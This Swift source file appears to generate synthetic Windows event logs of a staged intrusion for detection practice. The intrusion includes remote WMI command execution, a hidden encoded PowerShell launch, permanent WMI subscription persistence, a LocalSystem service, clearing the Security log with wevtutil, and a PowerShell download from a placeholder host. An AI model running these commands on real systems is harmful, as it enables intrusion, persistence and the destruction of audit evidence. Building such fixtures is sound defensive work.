import Foundation
import WindowsFormats

/// The intrusion: WMI used from another host, a subscription that stays, and the attempt to hide it.
extension ExampleLogs {
  mutating func addIntrusion() throws {
    let account = ExampleAccount.backup(logonID: 0x8C_41F3)
    try addRemoteCommands(account)
    try addSubscription(account)
    try addService(account)
    try addClearing(account)
    try addMorningAfter()
  }

  // MARK: Win32_Process.Create from another host

  private mutating func addRemoteCommands(_ account: ExampleAccount) throws {
    // The backup account, but from a workstation, with NTLM, and at an hour when no backup runs.
    let logon = ExampleTime(6, "17:41:58")
    try addLogon(logon, account, type: 3, from: "192.0.2.33", port: "51874", package: "NTLM", workstation: "WKS03")
    try addPrivileges(logon + 1, account)
    let endpointMapper = ExampleProcess.running(
      #"C:\Windows\System32\svchost.exe"#, #"C:\Windows\system32\svchost.exe -k RPCSS -p"#, processID: 964, day: 6,
      owner: .localSystem)
    let management = ExampleProcess.running(
      #"C:\Windows\System32\svchost.exe"#, #"C:\Windows\system32\svchost.exe -k netsvcs -p -s Winmgmt"#,
      processID: 1288,
      day: 6, owner: .localSystem)
    try addConnection(
      logon + -160, of: endpointMapper, isInitiated: false, address: "192.0.2.33", host: "WKS03.corp.example", port: 135
    )
    try addConnection(
      logon + 90, of: management, isInitiated: false, address: "192.0.2.33", host: "WKS03.corp.example", port: 49_668)
    try add(
      EventLogWriter.WMIActivity.providerStarted, ExampleTime(6, "17:42:01"), processID: 3036,
      [
        "ProviderName": "CIMWin32", "Code": 0, "HostProcess": "wmiprvse.exe", "ProcessID": 3036,
        "ProviderPath": #"%systemroot%\system32\wbem\cimwin32.dll"#,
      ])
    let commands = [
      ("17:42:02", "whoami /all"), ("17:42:40", "net group \"Domain Admins\" /domain"), ("17:43:25", "ipconfig /all"),
    ]
    for (clock, command) in commands {
      let time = ExampleTime(6, clock)
      let shell = try startUnderWMI(
        #"C:\Windows\System32\cmd.exe"#, #"cmd.exe /Q /c \#(command) 1> \\127.0.0.1\ADMIN$\__1791308522.17 2>&1"#, time,
        account)
      let program = command.split(separator: " ").first.map(String.init) ?? command
      try start(
        #"C:\Windows\System32\\#(program).exe"#, command, at: time + 24, parent: shell, owner: account,
        integrity: "High")
    }
    try addEncodedCommand(account)
  }

  private mutating func startUnderWMI(
    _ image: String, _ commandLine: String, _ time: ExampleTime, _ account: ExampleAccount
  ) throws -> ExampleProcess {
    var provider = ExampleProcess.wmiProvider(6)
    provider.owner = ExampleAccount(
      sid: .networkService, name: "NETWORK SERVICE", domain: "NT AUTHORITY", logonID: 0x3E4)
    return try start(image, commandLine, at: time, parent: provider, owner: account, integrity: "High")
  }

  /// A harmless script, encoded as the real ones are: Base64 of UTF-16LE.
  private mutating func addEncodedCommand(_ account: ExampleAccount) throws {
    let script = #"Get-Service | Out-File -FilePath C:\Windows\Temp\s.txt"#
    let units = script.utf16.flatMap { [UInt8(truncatingIfNeeded: $0), UInt8($0 >> 8)] }
    let time = ExampleTime(6, "17:44:51")
    let shell = try startUnderWMI(
      #"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"#,
      "powershell.exe -NoP -NonI -W Hidden -Enc \(Data(units).base64EncodedString())", time, account)
    try addPowerShell(time + 510, of: shell, script: script, path: "", level: 3)
    let drop = ExampleTime(6, "17:46:20")
    try add(
      EventLogWriter.Sysmon.fileCreate, drop, processID: 2684,
      [
        "UtcTime": drop.sysmonText, "ProcessGuid": .guid(shell.guid), "ProcessId": .uint32(shell.processID),
        "Image": .string(shell.image), "TargetFilename": #"C:\ProgramData\Telemetry\refresh.ps1"#,
        "CreationUtcTime": drop.sysmonText, "User": account.fullName,
      ])
  }

  // MARK: Permanent subscription

  private static let filterQuery =
    "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
    + "'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240 AND TargetInstance.SystemUpTime < 325"
  private static let consumerCommand =
    #"powershell.exe -NoP -W Hidden -ExecutionPolicy Bypass -File C:\ProgramData\Telemetry\refresh.ps1"#

  private mutating func addSubscription(_ account: ExampleAccount) throws {
    let time = ExampleTime(6, "17:47:31")
    try add(
      EventLogWriter.Sysmon.wmiFilter, time, processID: 2684,
      [
        "EventType": "WmiFilterEvent", "UtcTime": time.sysmonText, "Operation": "Created", "User": account.fullName,
        "EventNamespace": #" "root\\cimv2""#, "Name": #" "TelemetryRefresh""#,
        "Query": .string(#" "\#(ExampleLogs.filterQuery)""#),
      ])
    try add(
      EventLogWriter.Sysmon.wmiConsumer, time + 640, processID: 2684,
      [
        "EventType": "WmiConsumerEvent", "UtcTime": (time + 640).sysmonText, "Operation": "Created",
        "User": account.fullName, "Name": #" "TelemetryRefresh""#, "Type": "Command Line",
        "Destination": .string(#" "\#(ExampleLogs.consumerCommand.replacingOccurrences(of: #"\"#, with: #"\\"#))""#),
      ])
    try add(
      EventLogWriter.Sysmon.wmiBinding, time + 1_210, processID: 2684,
      [
        "EventType": "WmiBindingEvent", "UtcTime": (time + 1_210).sysmonText, "Operation": "Created",
        "User": account.fullName,
        "Consumer": #" "\\\\.\\root\\subscription:CommandLineEventConsumer.Name=\"TelemetryRefresh\"""#,
        "Filter": #" "\\\\.\\root\\subscription:__EventFilter.Name=\"TelemetryRefresh\"""#,
      ])
    try addActivation(time + 1_260)
  }

  /// WMI says that the subscription is in force: once when it is made, and again after each start of the host.
  private mutating func addActivation(_ time: ExampleTime) throws {
    try add(
      EventLogWriter.WMIActivity.permanentQueryStarted, time, processID: 1288,
      [
        "NamespaceName": "//./root/cimv2", "Query": .string(ExampleLogs.filterQuery), "User": #"CORP\svc-backup"#,
        "Processid": 1288, "Provider": "WmiPerfInst", "queryid": 0, "PossibleCause": "Permanent",
      ])
    try add(
      EventLogWriter.WMIActivity.consumerBinding, time + 35, processID: 1288,
      [
        "Namespace": "//./root/subscription", "ESS": "TelemetryRefresh",
        "CONSUMER": #"CommandLineEventConsumer="TelemetryRefresh""#, "PossibleCause": .string(ExampleLogs.binding),
      ])
  }

  private static let binding = """
    Binding EventFilter: \ninstance of __EventFilter
    {
    \tCreatorSID = {1, 5, 0, 0, 0, 0, 0, 5, 21, 0, 0, 0, 220, 221, 220, 59, 131, 65, 43, 70, 130, 147, 166, 40, 116, 4, 0, 0};
    \tEventNamespace = "root\\\\cimv2";
    \tName = "TelemetryRefresh";
    \tQuery = "\(filterQuery)";
    \tQueryLanguage = "WQL";
    };
    Perm. Consumer: \ninstance of CommandLineEventConsumer
    {
    \tCommandLineTemplate = "\(consumerCommand.replacingOccurrences(of: #"\"#, with: #"\\"#))";
    \tCreatorSID = {1, 5, 0, 0, 0, 0, 0, 5, 21, 0, 0, 0, 220, 221, 220, 59, 131, 65, 43, 70, 130, 147, 166, 40, 116, 4, 0, 0};
    \tName = "TelemetryRefresh";
    };

    """

  // MARK: A service, and the Security log cleared

  private mutating func addService(_ account: ExampleAccount) throws {
    let time = ExampleTime(6, "17:52:10")
    let path = #"%COMSPEC% /Q /c start /b C:\ProgramData\Telemetry\helper.exe --once"#
    try add(
      EventLogWriter.SecurityAuditing.serviceInstalled, time, processID: 756,
      [
        "SubjectUserSid": .sid(account.sid), "SubjectUserName": .string(account.name),
        "SubjectDomainName": .string(account.domain), "SubjectLogonId": .hexInt64(account.logonID),
        "ServiceName": "TelemetryHelper", "ServiceFileName": .string(path), "ServiceType": .hexInt32(0x10),
        "ServiceStartType": 3, "ServiceAccount": "LocalSystem",
      ])
    try add(
      EventLogWriter.ServiceControlManager.serviceInstalled, time + 2, processID: 716, userSID: account.sid,
      [
        "ServiceName": "TelemetryHelper", "ImagePath": .string(path), "ServiceType": "user mode service",
        "StartType": "demand start", "AccountName": "LocalSystem",
      ])
    try start(
      #"C:\Windows\System32\cmd.exe"#,
      #"C:\Windows\system32\cmd.exe /Q /c start /b C:\ProgramData\Telemetry\helper.exe --once"#, at: time + 900,
      parent: .services(6), owner: .localSystem, integrity: "System")
  }

  private mutating func addClearing(_ account: ExampleAccount) throws {
    let time = ExampleTime(6, "17:58:12")
    let shell = try startUnderWMI(
      #"C:\Windows\System32\cmd.exe"#, "cmd.exe /Q /c wevtutil cl Security", time + -70, account)
    try start(
      #"C:\Windows\System32\wevtutil.exe"#, "wevtutil  cl Security", at: time + -40, parent: shell, owner: account,
      integrity: "High")
    try add(
      EventLogWriter.EventLogService.securityLogCleared, time, processID: 1180,
      [
        "SubjectUserSid": .sid(account.sid), "SubjectUserName": .string(account.name),
        "SubjectDomainName": .string(account.domain), "SubjectLogonId": .hexInt64(account.logonID),
      ])
  }

  // MARK: The subscription at work

  private mutating func addMorningAfter() throws {
    try addActivation(ExampleTime(7, "00:03:07"))
    let time = ExampleTime(7, "00:07:40")
    let shell = try start(
      #"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"#, ExampleLogs.consumerCommand, at: time,
      parent: .wmiProvider(7), owner: .localSystem, integrity: "System")
    try addPowerShell(
      time + 600, of: shell,
      script: "Invoke-WebRequest -UseBasicParsing -Uri http://cdn.example.net/t.txt -OutFile C:\\Windows\\Temp\\t.txt",
      path: #"C:\ProgramData\Telemetry\refresh.ps1"#, level: 3)
    try addQuery(time + 1_400, "cdn.example.net", "203.0.113.66", of: shell)
    try addConnection(time + 1_470, of: shell, address: "203.0.113.66", host: "cdn.example.net", port: 80)
  }
}
